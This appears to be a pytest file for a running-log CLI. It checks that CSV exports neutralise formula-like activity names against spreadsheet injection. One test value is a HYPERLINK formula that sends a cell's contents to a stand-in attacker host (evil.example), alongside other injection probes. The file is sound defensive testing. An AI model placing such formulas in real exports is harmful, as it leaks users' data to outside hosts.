"""CSV from ``achilles activities --csv`` opens in a spreadsheet: a text cell that starts like a
formula is neutralised with a leading single quote (OWASP "CSV Injection"), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from typer.testing import CliRunner

from achillescare.cli.main import app
from achillescare.domain.spreadsheet import spreadsheet_cell

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def achilles(db: Path, *args: str) -> str:
    result = CliRunner().invoke(app, ["--db", str(db), *args], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return result.output


def test_an_activity_named_like_a_formula_comes_out_of_the_csv_as_text(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    achilles(db, "runner", "add", "Ana")
    names = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "easy = fine"]
    for day, name in enumerate(names, start=1):
        achilles(db, "log-run", "5", "30:00", "--on", f"2026-11-{day:02d}T07:00", "--name", name)
    rows = list(csv.DictReader(io.StringIO(achilles(db, "activities", "--csv"), newline="")))
    by_day = {row["start_local"][:10]: row for row in rows}
    for day, name in enumerate(names, start=1):
        cell = by_day[f"2026-11-{day:02d}"]["name"]
        assert cell == (name if name == "easy = fine" else "'" + name), cell
    assert all(float(row["distance_m"]) == 5000 for row in rows)


def test_only_text_cells_are_neutralised_so_negative_numbers_stay_numeric() -> None:
    assert spreadsheet_cell(-3.5) == -3.5
    assert spreadsheet_cell(-2) == -2
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell("-3.5") == "'-3.5"
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\rx") == "'\rx"
    assert spreadsheet_cell("tempo") == "tempo"
    assert spreadsheet_cell("") == ""
